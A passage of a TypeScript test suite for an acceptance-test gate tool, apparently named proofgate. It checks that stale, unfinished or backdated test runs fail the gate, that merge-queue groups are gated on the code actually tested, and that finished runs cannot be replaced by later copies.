    writeJson(runFile(dir, BEA), makeRun(B, ALL_PASS, { runId: BEA, tester: 'Bea Test', startedAt: '2026-11-29T10:05:00.000Z' }));
    writeJson(triageFile(dir), triage([], [WRITE_OK], BEA));
    return dir;
  }
  /** The gate's line for Ana's run, finished at `finished` (null: unfinished), holding `holds`. */
  const line = (finished: string | null, holds: string) =>
    new RegExp(
      `^- run ${RUN_ID} by "Ana Test" \\(2026-11-29T10:00:00\\.000Z to ${finished === null ? 'unfinished' : finished.replaceAll('.', '\\.')}\\) played spec [0-9a-f]{12} \\(the latest run answered [0-9a-f]{12}\\) while the latest run ${BEA} did, ${holds}; ${finished === null ? 'finish or remove it, then ' : ''}play a new run starting 10 min or more after both finished$`,
    );
  const holdsE1 = "and holds E1 failed, ids of the revision it answered, which the latest run's answers do not settle";
  const finished = { updatedAt: '2026-11-29T10:30:00.000Z', finishedAt: '2026-11-29T10:30:00.000Z' };

  it.each([
    ['unfinished (her saves refused once the spec changed)', { updatedAt: '2026-11-29T10:02:00.000Z', finishedAt: null }],
    ['finished after Bea began', finished],
  ])(
    '#594 Ana fails E1, %s; Bea passes the edited revision: failed in the gate, release gate and action, and uat read lists E1',
    async (_what, ana) => {
      const dir = edited(ana);
      const r = await cliCase(dir, ['uat', 'gate', ID]);
      expect([r.code, reasons(r.stdout)]).toEqual([1, [expect.stringMatching(line(ana.finishedAt, holdsE1))]]);
      expect((await cliCase(dir, ['uat', 'release-gate'])).code).toBe(1);
      expect((await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' })).outputs.verdict).toBe('failed');
      const read = await cliCase(dir, ['uat', 'read', ID]);
      expect(read.stdout).toMatch(
        /\n {2}warning: stale: [^\n]*\n {2}- E1 failed \(spec [0-9a-f]{12}; its text there is not at hand\) \u2014 note: saw something else at E1\n/,
      );
    },
  );

  it('#594 a stale run still open with nothing failed fails too (what its tester saw since may never be saved); a new run starting 10 min after both finished replays over a finished one', async () => {
    const open = edited({ updatedAt: '2026-11-29T10:02:00.000Z', finishedAt: null }, { E1: 'pass' });
    const r = await cliCase(open, ['uat', 'gate', ID]);
    expect([r.code, reasons(r.stdout)]).toEqual([
      1,
      [expect.stringMatching(line(null, 'and is not finished: what its tester saw after its last save may not be recorded'))],
    ]);
    // The way out the message names: Dan starts 10 min after Ana finished (10:30), and passes revision B.
    const dir = edited(finished);
    const dan = {
      runId: 'run-dan',
      tester: 'Dan Test',
      startedAt: '2026-11-29T10:40:00.000Z',
      updatedAt: '2026-11-29T10:50:00.000Z',
      finishedAt: '2026-11-29T10:50:00.000Z',
    };
    writeJson(runFile(dir, 'run-dan'), makeRun(B, ALL_PASS, dan));
    writeJson(triageFile(dir), triage([], [WRITE_OK], 'run-dan'));
    const replayed = await cliCase(dir, ['uat', 'gate', ID]);
    expect([replayed.code, reasons(replayed.stdout)]).toEqual([0, []]);
  });
});

describe('#500 an unfinished run the base holds, finished or answered by the change at a time before its last save', () => {
  const ANA = 'run-20261130T100000Z-anaa';
  const BEA = 'run-20261130T102000Z-beaa';
  const at = (hhmm: string) => `2026-11-30T${hhmm}:00.000Z`;
  /** The base: Ana's run given (started 10:00, last saved 10:35, not finished), and `more` beside it; then the change's copy of Ana's run, `change(held)`. */
  function backdate(
    ana: Record<string, any>,
    more: (dir: string) => void,
    change: (held: Record<string, any>) => Record<string, any>,
  ): { dir: string; base: string } {
    const dir = emptyRepo('proofgate-uat-backdated-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    writeJson(runFile(dir, ANA), ana);
    more(dir);
    commitAll(dir, 'base: Ana still playing');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    writeJson(runFile(dir, ANA), change(JSON.parse(readFileSync(runFile(dir, ANA), 'utf8'))));
    commitAll(dir, 'the pull request');
    return { dir, base };
  }
  /** Ana's run, open: the answers given, stamped at the times given. */
  const open = (given: Record<string, [string, string]>) => {
    const run = makeRun(EXAMPLE, Object.fromEntries(Object.entries(given).map(([e, [s]]) => [e, s])), {
      runId: ANA,
      startedAt: at('10:00'),
      updatedAt: at('10:35'),
      finishedAt: null,
      revision: 4,
    });
    for (const a of run.answers) if (given[a.expect]) a.at = at(given[a.expect]![1]);
    return run;
  };
  /** Bea's run, all passed (10:20–10:40, while Ana played), triaged. */
  const bea = (dir: string) => {
    const times = { runId: BEA, tester: 'Bea Other', startedAt: at('10:20'), updatedAt: at('10:40'), finishedAt: at('10:40') };
    writeJson(runFile(dir, BEA), makeRun(EXAMPLE, ALL_PASS, times));
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-30T11:00:00Z' }], BEA));
  };
  const overlap = `run ${ANA} by "Ana Test" (2026-11-30T10:00:00.000Z to unfinished) played this revision while the latest run ${BEA} did, and disagrees: E1 failed there`;

  it('#500 Ana failed E1 at 10:02 and saved at 10:35; the change finishes her run at 10:05, before Bea started 10:20: no usable run, her open run is gated and the failure stands (CLI and action)', async () => {
    const anaOpen = open({ E1: ['fail', '10:02'], E2: ['pass', '10:03'] });
    const finishes: [string, (held: Record<string, any>) => Record<string, any>][] = [
      ['finished at 10:05, its last save kept', (held) => ({ ...held, revision: 5, finishedAt: at('10:05') })],
      ['finished and saved at 10:05', (held) => ({ ...held, revision: 5, updatedAt: at('10:05'), finishedAt: at('10:05') })],
    ];
    for (const [what, finish] of finishes) {
      const { dir, base } = backdate(anaOpen, bea, finish);
      const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
      expect(r.code, what).toBe(1);
      expect(r.stdout, what).toContain(`${ANA}.json is not a usable run: it dates `);
      expect(r.stdout, what).toContain(overlap);
      const head = git(dir, 'rev-parse', 'HEAD').trim();
      const event = { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } };
      const act = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'forbid-tester': 'octocat' }, { event });
      expect(act.outputs.verdict, what).toBe('failed');
    }
  });

  it("#500 a finish more than 10 min before the run's own last save is no usable run, in any run; 10 min is the margin", async () => {
    const dir = project();
    const finished = (f: string) => makeRun(EXAMPLE, ALL_PASS, { updatedAt: '2026-11-29T10:35:00.000Z', finishedAt: f });
    writeJson(triageFile(dir), triage([]));
    writeJson(runFile(dir), finished('2026-11-29T10:24:59.999Z'));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      '/finishedAt: "2026-11-29T10:24:59.999Z" is more than 10 min before the run\'s last save ("2026-11-29T10:35:00.000Z"), but the page stamps the finish in that save',
    );
    writeJson(runFile(dir), finished('2026-11-29T10:25:00.000Z'));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
  });

  it('#500 answers to a writing step still open at the base, dated by the change before its last save, before a write check made earlier: no usable run; answered after it, the run goes on', async () => {
    const check = (when: string) => (dir: string) => writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: when }], ANA));
    const played = (s2: string) => (held: Record<string, any>) => {
      const times: Record<string, string> = { E2: s2, E3: s2, E4: '10:37', E5: '10:38' };
      for (const a of held.answers) if (times[a.expect]) Object.assign(a, { status: 'pass', at: at(times[a.expect]!) });
      return { ...held, revision: 9, updatedAt: at('10:40'), finishedAt: at('10:40') };
    };
    const anaOpen = open({ E1: ['pass', '10:02'] });
    // S2 (E2, E3) stamped 10:05, so that the check at 10:10 seems made after it was played.
    const early = backdate(anaOpen, check('2026-11-30T10:10:00Z'), played('10:05'));
    const r = await cliCase(early.dir, ['uat', 'gate', ID, '--base', early.base]);
    expect(r.code).not.toBe(0);
    expect(r.stdout).toContain(
      `${ANA}.json is not a usable run: it dates the answer to E2, the answer to E3 before the last save the base ${early.base.slice(0, 12)}`,
    );
    // Played forward (S2 at 10:36), checked after: the run counts.
    const late = backdate(anaOpen, check('2026-11-30T11:00:00Z'), played('10:36'));
    const ok = await cliCase(late.dir, ['uat', 'gate', ID, '--base', late.base]);
    expect([ok.code, reasons(ok.stdout)]).toEqual([0, []]);
  });
});

describe('#501 a merge queue group gates the code the run tested, in every file its branch changed', () => {
  const head = (dir: string) => git(dir, 'rev-parse', 'HEAD').trim();
  const app = (dir: string, on: boolean) => writeFileSync(join(dir, 'src/app.ts'), `export const bookingsEnabled = ${on};\n`);
  /**
   * main (bookings off); the pull request: R turns bookings on (the code played), then H sets them to
   * `after` and commits the run of R and its triage. With `ahead`, the queue's base is main plus a
   * change merged ahead (another file), and the group's head merges H onto it; else the group is H on main.
   */
  function queued(
    after: boolean,
    ahead: boolean,
  ): { dir: string; pr: { base: string; head: string }; group: { base: string; head: string } } {
    const dir = emptyRepo('proofgate-uat-queue-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    mkdirSync(join(dir, 'src'));
    app(dir, false);
    writeSpec(dir, EXAMPLE);
    commitTree(dir, 'main');
    const main = head(dir);
    git(dir, 'checkout', '-q', '-b', 'pr');
    app(dir, true);
    commitTree(dir, 'the fix');
    const code = { commit: head(dir), tree: git(dir, 'rev-parse', 'HEAD^{tree}').trim() };
    app(dir, after);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { schema: 'bmad-plus/uat-run/2', code }));
    writeJson(triageFile(dir), triage([]));
    commitTree(dir, 'acceptance records');
    const pr = { base: main, head: head(dir) };
    if (!ahead) return { dir, pr, group: pr };
    git(dir, 'checkout', '-q', '-b', 'queue', main);
    writeFileSync(join(dir, 'other.ts'), 'export const other = 1;\n');
    commitTree(dir, 'merged ahead in the queue');
    const base = head(dir);
    git(dir, 'merge', '-q', '--no-edit', pr.head);
    return { dir, pr, group: { base, head: head(dir) } };
  }
  const gate = (dir: string, event: Record<string, unknown>, env: Record<string, string> = {}) =>
    actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'forbid-tester': 'octocat' }, { event, env: { ...ENV_CANARIES, ...env } });
  const inGroup = (dir: string, group: { base: string; head: string }) =>
    gate(dir, { merge_group: { base_sha: group.base, head_sha: group.head } }, { GITHUB_EVENT_NAME: 'merge_group' });

  it("#501 the fix played, then set back to the base's code with the run committed: stale on the pull request and in the group, naming src/app.ts", async () => {
    for (const ahead of [false, true]) {
      const { dir, pr, group } = queued(false, ahead);
      const onPr = await gate(dir, { pull_request: { number: 7, base: { sha: pr.base }, head: { sha: pr.head } } });
      expect(onPr.outputs.verdict, `ahead: ${ahead}`).toBe('stale');
      const mq = await inGroup(dir, group);
      expect(mq.outputs.verdict, `ahead: ${ahead}`).toBe('stale');
      expect(mq.stdout, `ahead: ${ahead}`).toContain('1 file(s) changed since ("src/app.ts")');
    }
  });

  it('#501 the code played merged as it was, with a change merged ahead to a file the branch never touched: passed', async () => {
    const { dir, group } = queued(true, true);
    expect((await inGroup(dir, group)).outputs.verdict).toBe('passed');
  });
});

describe('#569 a finished run is never replaced by a later copy, whatever writes it', () => {
  /** Ana's finished run, E1 failed, as the page stored it; the gate fails on it (E1 not triaged). */
  const failedRun = async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(1);
    return { dir, held: readFileSync(runFile(dir), 'utf8') };
  };
  /** A copy of the same run, a revision later, E1 passed: the failure gone. */
  const flipped = () => makeRun(EXAMPLE, ALL_PASS, { revision: 13 });

  it('#569 uat import of a higher revision of the finished run is refused, naming it; the run stays as stored and the gate failed', async () => {
    const { dir, held } = await failedRun();
    writeJson(join(dir, 'export.json'), flipped());
    const imported = await cliCase(dir, ['uat', 'import', ID, 'export.json']);
    expect(imported.code).not.toBe(0);
    expect(imported.stdout + imported.stderr).toContain(
      `run ${RUN_ID} finished at 2026-11-29T10:20:00.000Z: a finished run is evidence, never replaced`,
    );
    expect(readFileSync(runFile(dir), 'utf8')).toBe(held);
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(1);
  });

  it('#569 uat serve started after the run was stored (a restart) refuses the same copy with 409', async () => {
    const { dir, held } = await failedRun();
    const { child, base, token } = await serve(dir, 0);
    try {
      const body = JSON.stringify(savedNow({ ...flipped(), finishedAt: 'now' }));
      const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
      const post = await call(`${base}api/run`, { method: 'POST', headers, body });
      expect([post.status, post.json?.saved, post.json?.reason]).toEqual([409, false, 'finished']);
      expect(readFileSync(runFile(dir), 'utf8')).toBe(held);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
  });
});
